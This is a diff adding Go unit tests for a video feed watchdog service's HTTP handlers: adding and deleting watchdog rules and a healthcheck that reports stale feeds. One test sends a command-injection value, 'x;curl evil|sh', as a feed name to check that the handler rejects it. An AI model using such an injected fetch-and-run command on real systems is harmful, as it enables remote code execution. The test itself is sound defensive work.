@@ -0,0 +1,132 @@
+package cmd
+
+import (
+	"bytes"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+	"time"
+
+	"github.com/gorilla/mux"
+	"github.com/timdrysdale/vw/watchdog"
+)
+
+func TestHandleWatchdogAdd(t *testing.T) {
+
+	rule := []byte(`{"feed":"video0","thresholdMs":2000,"actions":["log","failover"],"failover":"video1"}`)
+
+	req, err := http.NewRequest("PUT", "/api/watchdogs", bytes.NewBuffer(rule))
+	if err != nil {
+		t.Error(err)
+	}
+	req.Header.Set("Content-Type", "application/json")
+
+	rr := httptest.NewRecorder()
+
+	a := testApp(false)
+	handler := http.HandlerFunc(a.handleWatchdogAdd)
+
+	go func() {
+		handler.ServeHTTP(rr, req)
+
+		if status := rr.Code; status != http.StatusOK {
+			t.Errorf("handler returned wrong status code: got %v want %v",
+				status, http.StatusOK)
+		}
+
+		expected := string(rule)
+		if rr.Body.String() != expected {
+			t.Errorf("handler returned unexpected body: got %v want %v",
+				rr.Body.String(), expected)
+		}
+	}()
+
+	got := <-a.Watchdog.Add
+
+	if got.Feed != "video0" || got.ThresholdMs != 2000 || got.Failover != "video1" {
+		t.Errorf("Wrong rule %v", got)
+	}
+
+	if len(got.Actions) != 2 || got.Actions[1] != watchdog.ActionFailover {
+		t.Errorf("Wrong actions %v", got.Actions)
+	}
+}
+
+func TestHandleWatchdogAddBadFeed(t *testing.T) {
+
+	rule := []byte(`{"feed":"x;curl evil|sh","thresholdMs":2000,"actions":["restart"]}`)
+
+	req, err := http.NewRequest("POST", "/api/watchdogs", bytes.NewBuffer(rule))
+	if err != nil {
+		t.Error(err)
+	}
+
+	rr := httptest.NewRecorder()
+
+	a := testApp(false)
+
+	http.HandlerFunc(a.handleWatchdogAdd).ServeHTTP(rr, req)
+
+	if status := rr.Code; status != http.StatusBadRequest {
+		t.Errorf("handler returned wrong status code: got %v want %v",
+			status, http.StatusBadRequest)
+	}
+}
+
+func TestHandleWatchdogDelete(t *testing.T) {
+
+	req, err := http.NewRequest("DELETE", "", nil)
+	if err != nil {
+		t.Error(err)
+	}
+
+	req = mux.SetURLVars(req, map[string]string{
+		"feed": "video0",
+	})
+
+	rr := httptest.NewRecorder()
+
+	a := testApp(false)
+	handler := http.HandlerFunc(a.handleWatchdogDelete)
+
+	go func() {
+		handler.ServeHTTP(rr, req)
+
+		if status := rr.Code; status != http.StatusOK {
+			t.Errorf("handler returned wrong status code: got %v want %v",
+				status, http.StatusOK)
+		}
+	}()
+
+	got := <-a.Watchdog.Delete
+
+	if got != "video0" {
+		t.Error("Wrong feed")
+	}
+}
+
+func TestHandleHealthcheckStale(t *testing.T) {
+
+	a := testApp(true)
+	defer close(a.Closed)
+
+	a.Watchdog.Add <- watchdog.Rule{Feed: "video0", ThresholdMs: 1, Actions: []string{}}
+
+	time.Sleep(200 * time.Millisecond)
+
+	req, err := http.NewRequest("GET", "/healthcheck", nil)
+	if err != nil {
+		t.Error(err)
+	}
+
+	rr := httptest.NewRecorder()
+
+	http.HandlerFunc(a.handleHealthcheck).ServeHTTP(rr, req)
+
+	// stale feeds are reported, but only fail readiness if required
+	expected := `{"status":"ok","live":true,"ready":true,"loops":{"agg":"ok","hub":"ok","rwc":"ok"},"feeds":{"video0":"stale"},"stale":["video0"]}` + "\n"
+	if rr.Body.String() != expected {
+		t.Errorf("handler returned unexpected body: got %v want %v",
+			rr.Body.String(), expected)
+	}
+}